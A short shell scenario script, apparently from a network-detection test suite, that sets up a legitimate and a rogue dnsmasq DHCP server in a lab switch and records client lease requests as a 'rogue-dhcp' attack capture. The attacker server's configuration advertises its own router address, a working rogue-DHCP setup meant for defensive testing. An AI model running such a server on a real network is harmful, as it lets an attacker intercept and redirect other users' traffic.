# about: a second DHCP server on the switch answers too
# tools: dnsmasq busybox
# expect: rogue-dhcp
scenario_lab() { lab_up_switch; }
scenario() {
  server dnsmasq --keep-in-foreground --port=0 --no-resolv --conf-file=/dev/null --user=root --pid-file= --bind-interfaces --interface=s0 --dhcp-range=192.0.2.100,192.0.2.110,2m --dhcp-leasefile="$work/l1" --dhcp-authoritative &
  attacker dnsmasq --keep-in-foreground --port=0 --no-resolv --conf-file=/dev/null --user=root --pid-file= --bind-interfaces --interface=a0 --dhcp-range=192.0.2.200,192.0.2.210,2m --dhcp-leasefile="$work/l2" --dhcp-option=option:router,192.0.2.66 &
  sleep 1
  ip -n client addr flush dev c0 scope global
  start_recording attacks/rogue-dhcp c0
  for i in 1 2 3; do client busybox udhcpc -f -q -n -i c0 -x hostname:laptop$i -s /bin/true > /dev/null 2>&1 || true; done
  stop_recording
}
